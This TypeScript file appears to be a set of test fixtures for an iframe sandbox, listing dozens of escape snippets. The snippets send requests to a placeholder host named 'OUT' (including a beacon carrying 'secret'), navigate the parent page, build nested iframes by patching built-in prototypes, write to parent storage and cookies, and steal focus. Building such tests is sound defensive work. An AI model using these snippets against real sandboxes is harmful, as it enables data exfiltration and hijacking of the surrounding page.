/** An attempt of code to escape from its iframe. */
export interface Escape {
  name: string;
  /** Body of an async function; `OUT`, `WS` and `STUN` stand for URLs of a third party. */
  code: string;
}

const append = (element: string, fields: string) =>
  `document.body.append(Object.assign(document.createElement('${element}'), ${fields}));`;
const html = (text: string) =>
  `const box = document.createElement('div'); document.body.append(box); box.innerHTML = \`${text}\`;`;
const style = (text: string) => append('style', `{ textContent: \`${text}\` }`);
const stun = (scope: string) =>
  `const peer = new ${scope}RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); peer.createDataChannel('a'); await peer.setLocalDescription(await peer.createOffer());`;

/** Attempts to send a request to a third party. */
const requests: Escape[] = [
  { name: 'fetch', code: `await fetch('OUT/a');` },
  {
    name: 'fetch with keepalive',
    code: `await fetch('OUT/a', { keepalive: true, mode: 'no-cors' });`,
  },
  {
    name: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('GET', 'OUT/a'); request.send();`,
  },
  { name: 'WebSocket', code: `new WebSocket('WS/a');` },
  { name: 'EventSource', code: `new EventSource('OUT/a');` },
  { name: 'beacon', code: `navigator.sendBeacon('OUT/a', 'secret');` },
  { name: 'image', code: `new Image().src = 'OUT/a';` },
  { name: 'image in HTML', code: html('<img srcset="OUT/a 1x">') },
  { name: 'image input', code: append('input', `{ type: 'image', src: 'OUT/a' }`) },
  { name: 'image in SVG', code: html('<svg><image href="OUT/a" width="9" height="9"/></svg>') },
  { name: 'video', code: append('video', `{ src: 'OUT/a', preload: 'auto' }`) },
  { name: 'poster', code: append('video', `{ poster: 'OUT/a' }`) },
  { name: 'audio', code: `new Audio('OUT/a').load();` },
  { name: 'script', code: append('script', `{ src: 'OUT/a' }`) },
  { name: 'module', code: `await import('OUT/a');` },
  {
    name: 'import in an inline module script',
    code: append('script', `{ type: 'module', textContent: "import 'OUT/a'" }`),
  },
  { name: 'style sheet', code: append('link', `{ rel: 'stylesheet', href: 'OUT/a' }`) },
  { name: 'style sheet in HTML', code: html('<link rel="stylesheet" href="OUT/a">') },
  { name: 'preload', code: append('link', `{ rel: 'preload', as: 'image', href: 'OUT/a' }`) },
  { name: 'module preload', code: append('link', `{ rel: 'modulepreload', href: 'OUT/a' }`) },
  { name: 'prefetch', code: append('link', `{ rel: 'prefetch', href: 'OUT/a' }`) },
  { name: 'import in a style sheet', code: style(`@import url('OUT/a');`) },
  { name: 'background', code: style(`body { background: url('OUT/a') }`) },
  {
    name: 'list marker in an attribute',
    code: html('<ul style="list-style-image: url(OUT/a)"><li>a</li></ul>'),
  },
  {
    name: 'font',
    code: `${style(`@font-face { font-family: 'A'; src: url('OUT/a') }`)} await document.fonts.load('9px A');`,
  },
  { name: 'font from FontFace', code: `await new FontFace('A', "url('OUT/a')").load();` },
  {
    name: 'link ping',
    code: `${append('a', `{ ping: 'OUT/a', href: '#a' }`)} document.body.lastChild.click();`,
  },
  { name: 'worker', code: `new Worker(URL.createObjectURL(new Blob(["fetch('OUT/a')"])));` },
  {
    name: 'worker that loads a script',
    code: `new Worker(URL.createObjectURL(new Blob(["importScripts('OUT/a')"])));`,
  },
  {
    name: 'shared worker',
    code: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('OUT/a')"])));`,
  },
  { name: 'WebRTC datagrams', code: stun('') },
  { name: 'WebRTC datagrams by webkitRTCPeerConnection', code: stun('webkit') },
];

/** Attempts to open a document of a third party, in the iframe or elsewhere. */
const documents: Escape[] = [
  { name: 'location of the iframe', code: `location.href = 'OUT/a';` },
  {
    name: 'location of the iframe, replaced later',
    code: `setTimeout(() => location.replace('OUT/a'));`,
  },
  {
    name: 'location of the iframe, without listeners',
    code: `document.open(); location.href = 'OUT/a';`,
  },
  {
    name: 'meta refresh',
    code: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=OUT/a'; document.head.append(meta);`,
  },
  { name: 'meta refresh in HTML', code: html('<meta http-equiv="refresh" content="0;url=OUT/a">') },
  { name: 'link', code: `${append('a', `{ href: 'OUT/a' }`)} document.body.lastChild.click();` },
  {
    name: 'link in SVG',
    code: `${html('<svg><a href="OUT/a"><text>a</text></a></svg>')} box.querySelector('a').dispatchEvent(new MouseEvent('click'));`,
  },
  {
    name: 'link to a download',
    code: `${append('a', `{ href: 'OUT/a', download: 'a' }`)} document.body.lastChild.click();`,
  },
  {
    name: 'form',
    code: `const form = document.createElement('form'); form.action = 'OUT/a'; form.method = 'post'; document.body.append(form); form.submit();`,
  },
  {
    name: 'form with target _self',
    code: `${html('<form action="OUT/a" target="_self"><button>a</button></form>')} box.querySelector('button').click();`,
  },
  { name: 'window.open', code: `open('OUT/a');` },
  { name: 'window.open with target _self', code: `open('OUT/a', '_self');` },
  { name: 'window.open with target _top', code: `open('OUT/a', '_top');` },
  { name: 'location of the page', code: `top.location = 'OUT/a';` },
  { name: 'location of the parent', code: `parent.location.replace('OUT/a');` },
  {
    name: 'link with target _top',
    code: `${append('a', `{ href: 'OUT/a', target: '_top' }`)} document.body.lastChild.click();`,
  },
  { name: 'nested iframe', code: append('iframe', `{ src: 'OUT/a' }`) },
  { name: 'nested iframe in HTML', code: html('<b><iframe src="OUT/a"></iframe></b>') },
  {
    name: 'nested iframe in uppercase',
    code: `document.body.append(Object.assign(document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'), { src: 'OUT/a' })); document.createElement('IFRAME');`,
  },
  {
    name: 'empty iframe that navigates',
    code: `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location = 'OUT/a';`,
  },
  { name: 'iframe with srcdoc', code: append('iframe', `{ srcdoc: '<img src="OUT/a">' }`) },
  {
    name: 'iframe from DOMParser',
    code: `document.body.append(new DOMParser().parseFromString('<iframe src="OUT/a"></iframe>', 'text/html').body.firstChild);`,
  },
  {
    name: 'iframe from XML',
    code: `const box = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'div').documentElement; box.innerHTML = '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" src="OUT/a"/>'; document.body.append(document.adoptNode(box.firstChild));`,
  },
  {
    name: 'iframe from XSLT',
    code: `const processor = new XSLTProcessor(); processor.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe src="OUT/a"/></xsl:template></xsl:stylesheet>', 'text/xml')); document.body.append(processor.transformToFragment(document.implementation.createDocument('', 'a'), document));`,
  },
  {
    name: 'iframe from a range',
    code: `document.body.append(document.createRange().createContextualFragment('<iframe src="OUT/a"></iframe>'));`,
  },
  {
    name: 'iframe as a customized built-in element',
    code: `class Own extends HTMLIFrameElement {} customElements.define('own-frame', Own, { extends: 'iframe' }); const own = new Own(); own.src = 'OUT/a'; document.body.append(own);`,
  },
  {
    name: 'iframe through patched built-in functions',
    code: `const seen = []; const { call } = Function.prototype; const { toLowerCase, slice } = String.prototype; const { exec, test } = RegExp.prototype; Function.prototype.call = function (...all) { seen.push(this); return Reflect.apply(call, this, all); }; String.prototype.toLowerCase = () => 'b'; String.prototype.slice = () => 'b'; RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; const make = () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'OUT/a' })); const write = () => document.body.insertAdjacentHTML('beforeend', '<iframe src="OUT/a"></iframe>'); try { for (const way of [make, write]) { try { way(); } catch {} } } finally { Function.prototype.call = call; Object.assign(String.prototype, { toLowerCase, slice }); Object.assign(RegExp.prototype, { exec, test }); } for (const found of seen) { try { document.body.append(Object.assign(Reflect.apply(found, document, ['iframe']), { src: 'OUT/a' })); } catch {} }`,
  },
  { name: 'object element', code: append('object', `{ data: 'OUT/a' }`) },
  { name: 'embed element', code: append('embed', `{ src: 'OUT/a' }`) },
  { name: 'document.write', code: `document.write('<img src="OUT/a">');` },
  { name: 'Navigation API', code: `navigation.navigate('OUT/a');` },
  {
    name: 'location with a patched addEventListener',
    code: `Object.defineProperty(EventTarget.prototype, 'addEventListener', { value() {} }); addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true); location.assign('OUT/a');`,
  },
];

/** Attempts to change or read the page around the iframe, its storage or the browser. */
const page: Escape[] = [
  { name: 'title of the page', code: `parent.document.title = 'escaped';` },
  { name: 'content of the page', code: `top.document.body.dataset.escaped = '1';` },
  { name: 'global of the page', code: `parent.escaped = 1;` },
  { name: 'name of the page', code: `parent.name = 'escaped';` },
  { name: 'prototypes of the page', code: `parent.Object.prototype.escaped = 1;` },
  { name: 'hash of the page', code: `parent.location.hash = 'escaped';` },
  { name: 'eval in the page', code: `parent.eval('window.escaped = 1');` },
  {
    name: 'javascript: URL of the page',
    code: `parent.location = 'javascript:void(window.escaped = 1)';`,
  },
  {
    name: 'frameElement',
    code: `frameElement.ownerDocument.body.dataset.escaped = '1';`,
  },
  { name: 'local storage of the page', code: `parent.localStorage.setItem('escaped', '1');` },
  { name: 'local storage', code: `localStorage.setItem('escaped', '1');` },
  { name: 'session storage', code: `sessionStorage.setItem('escaped', '1');` },
  { name: 'cookie', code: `document.cookie = 'escaped=1;path=/';` },
  { name: 'cookie store', code: `await cookieStore.set('escaped', '1');` },
  {
    name: 'IndexedDB',
    code: `await new Promise((resolve) => (indexedDB.open('escaped').onsuccess = resolve));`,
  },
  { name: 'Cache Storage', code: `await caches.open('escaped');` },
  {
    name: 'origin private file system',
    code: `await (await navigator.storage.getDirectory()).getFileHandle('escaped', { create: true });`,
  },
  { name: 'BroadcastChannel', code: `new BroadcastChannel('escaped').postMessage(1);` },
  {
    name: 'web lock',
    code: `navigator.locks.request('escaped', () => new Promise(() => {})); await navigator.locks.query();`,
  },
  { name: 'history', code: `history.back();` },
  { name: 'history of the page', code: `parent.history.back();` },
  { name: 'alert', code: `alert('escaped');` },
  { name: 'prompt', code: `prompt('escaped');` },
  {
    name: 'download',
    code: `${append('a', `{ href: URL.createObjectURL(new Blob(['a'])), download: 'escaped' }`)} document.body.lastChild.click();`,
  },
  {
    name: 'focus',
    code: `${append('input', `{ id: 'thief' }`)} document.getElementById('thief').focus();`,
  },
  {
    name: 'focus by select()',
    code: `${append('input', `{ id: 'thief', value: 'a' }`)} document.getElementById('thief').select();`,
  },
  {
    name: 'focus by a label',
    code: `${html('<label for="thief">a</label><input id="thief">')} box.querySelector('label').click();`,
  },
  {
    name: 'focus by a dialog',
    code: `${html('<dialog><input></dialog>')} box.querySelector('dialog').showModal();`,
  },
];

/** All escape attempts by group. */
export const escapes = { requests, documents, page };
